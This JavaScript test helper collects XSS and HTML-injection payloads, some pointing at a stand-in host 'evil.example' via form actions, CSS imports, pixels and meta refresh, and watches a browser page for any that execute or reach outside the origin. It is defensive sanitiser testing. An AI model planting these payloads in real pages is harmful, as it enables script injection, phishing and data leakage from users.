// Texts that have run as a script somewhere, of the shared corpus and a few of our own; and what a page is
// watched for while it shows them.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const corpus = join(process.env.KITH_SHARED ?? '', 'corpus');
const folder = join(corpus, 'fetched/html');

// Each calls what is watched, in a place of its own, whatever the corpus has.
const own = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', "'><img src=x onerror='alert(1)'>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<a href="javascript:alert(1)">go</a>', '<form action=//evil.example><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;background:red">over all</div>', '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<img src="//evil.example/pixel.gif">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>', '<details open ontoggle=alert(1)>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<video><source onerror=alert(1)></video>', '<input autofocus onfocus=alert(1)>', '<object data="javascript:alert(1)"></object>', '<embed src="//evil.example/x.swf">',
];

const text_of = (item) => (typeof item === 'string' ? item : (item.payload ?? item.input));

// All of them, each once, such as a text field takes: without NUL, and not blank.
export function vectors() {
  const found = new Set(own);
  if (!existsSync(folder)) return [...found];
  const read = (path, list) => list(JSON.parse(readFileSync(path, 'utf8'))).forEach((item) => text_of(item)?.trim() && found.add(text_of(item).replaceAll('\0', '')));
  for (const file of readdirSync(folder)) if (file.endsWith('.json')) read(join(folder, file), (list) => list);
  const tokenizer = join(folder, 'html5lib+html5lib-tests/tokenizer');
  if (existsSync(tokenizer)) for (const file of readdirSync(tokenizer)) read(join(tokenizer, file), ({ tests }) => tests);
  return [...found];
}

const images = join(corpus, 'own/image');
export const pictures = () => (existsSync(images) ? readdirSync(images).filter((file) => !file.endsWith('.md')).map((file) => ({ name: file, bytes: readFileSync(join(images, file)) })) : []);

// Whatever a script of others does first is told: these are called by nothing of ours.
export async function watch(page, origin) {
  const seen = { ran: [], left: [] };
  await page.exposeFunction('kith_ran', (what) => seen.ran.push(what));
  await page.addInitScript(() => {
    const tell = window.kith_ran;
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = (text) => void tell(`${name}(${String(text).slice(0, 40)}) on ${location.pathname}`);
    addEventListener('securitypolicyviolation', (event) => void tell(`policy: ${event.violatedDirective} ${event.blockedURI} on ${location.pathname}`));
  });
  page.on('dialog', (dialog) => { seen.ran.push(`a dialog: ${dialog.message()}`); void dialog.dismiss(); });
  page.on('popup', () => seen.left.push('a window was opened'));
  page.on('request', (request) => {
    const url = request.url();
    if (!/^(data|blob|about):/.test(url) && new URL(url).origin !== origin) seen.left.push(url.slice(0, 120));
  });
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame()) seen.left.push(`a frame of ${frame.url().slice(0, 80)}`);
    else if (frame.url() !== 'about:blank' && new URL(frame.url()).origin !== origin) seen.left.push(`the page itself went to ${frame.url().slice(0, 80)}`);
  });
  return seen;
}

// What stands in a page that no page of ours has: each would be somebody else's.
export const foreign_parts = (page, within = 'body') =>
  page.evaluate((place) => {
    const handlers = (node) => [...node.attributes].some(({ name }) => name.startsWith('on'));
    const scheme = (node, name) => /^[\s\0-\x20]*(javascript|vbscript|data:text)/i.test(node.getAttribute(name) ?? '');
    const odd = 'iframe, frame, object, embed, applet, base, marquee, math, noscript, plaintext, form[action], [formaction], [srcdoc], meta[http-equiv], img[src^="//"], img[src^="http"]';
    const told = [];
    for (const node of document.querySelector(place).querySelectorAll('*')) {
      if (handlers(node) || node.matches(odd) || scheme(node, 'href') || scheme(node, 'src') || scheme(node, 'xlink:href') || (node.localName === 'script' && place !== 'body')) told.push(node.outerHTML.slice(0, 120));
    }
    return told;
  }, within);
